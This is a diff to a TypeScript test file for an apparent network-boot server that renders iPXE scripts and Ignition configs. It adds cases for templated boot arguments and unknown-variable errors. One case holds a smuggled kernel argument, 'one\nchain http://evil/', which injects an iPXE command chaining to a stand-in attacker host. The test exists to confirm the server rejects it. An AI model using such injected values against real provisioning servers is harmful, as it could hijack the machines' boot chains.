@@ -32,6 +32,12 @@ const CASES: Readonly<Record<string, object>> = {
   "unknown-key": { ignition_id: "unknown-key.yaml" },
   "empty-ignition": { ignition_id: "empty.yaml" },
   "broken-raw": { ignition_id: "broken.ign" },
+  "templated-boot": {
+    templated: true,
+    boot: { kernel: "{{server.url}}/k", args: ["name={{machine.name}}", "at=${next-server}"] },
+  },
+  "templated-unknown": { templated: true, boot: { kernel: "/k", args: ["{{server.urk}}"] } },
+  braces: { boot: { kernel: "/k", args: ["{{server.url}}"] } },
   "line-break": { boot: { kernel: "/assets/vmlinuz", args: ["one\nchain http://evil/"] } },
 };
 const NAMES = [...Object.keys(CASES), "no-profile"];
@@ -63,7 +69,7 @@ function files(): Record<string, string | object> {
     "data/ignition/not-yaml.yaml": "ignition: [\n",
     "data/ignition/invalid.yaml": "ignition:\n  version: 3.3.0\nstorage:\n  files:\n    - path: relative\n",
     "data/ignition/unknown-key.yaml": "ignition:\n  version: 3.3.0\nstorrage: {}\n",
-    "data/ignition/empty.yaml": "",
+    "data/ignition/empty.yaml": "# nothing\n",
     "data/ignition/broken.ign": '{"ignition":{"version":"3.3.0"',
   };
 }
@@ -189,6 +195,12 @@ describe.skipIf(needs.skip)(`what a machine asks for over HTTP${needs.note}`, ()
       500,
       /^ignition-invalid: .*broken\.ign/,
     ],
+    [
+      "a boot section with an unknown variable",
+      `/ipxe?mac=${macOf("templated-unknown")}`,
+      500,
+      /^template-failed: profiles\/templated-unknown\.json:\d+: boot\.args\.0:1:1: unknown variable "server\.urk"/,
+    ],
     ["an argument with a line break", `/ipxe?mac=${macOf("line-break")}`, 500, /^template-failed: line break/],
   ])(
     "%s: %s is answered with %i and the reason, never with an empty or a default config",
@@ -203,6 +215,13 @@ describe.skipIf(needs.skip)(`what a machine asks for over HTTP${needs.note}`, ()
     },
   );
 
+  test("a boot section is a template where its profile says so, and goes out byte for byte where it does not", async () => {
+    expect((await lab.http(`/ipxe?mac=${macOf("templated-boot")}`)).text).toBe(
+      "#!ipxe\nkernel http://10.77.0.1:8080/k name=templated-boot at=${next-server}\nboot\n",
+    );
+    expect((await lab.http(`/ipxe?mac=${macOf("braces")}`)).text).toBe("#!ipxe\nkernel /k {{server.url}}\nboot\n");
+  });
+
   test("/healthz names what is dangling, each with its file and line", async () => {
     const { status, text } = await lab.http("/healthz");
     expect(status).toBe(200);
@@ -216,6 +235,10 @@ describe.skipIf(needs.skip)(`what a machine asks for over HTTP${needs.note}`, ()
             /^profiles\/no-ignition-file\.json:\d+: ignition_id: there is no ignition\/missing\.yaml$/,
           ),
         ],
+        failing: expect.arrayContaining([
+          expect.stringMatching(/^ignition\/broken\.ign:1: /),
+          expect.stringMatching(/^ignition\/unknown-variable\.yaml:5:\d+: .*\(for unknown-variable\)$/),
+        ]),
       },
     });
   });
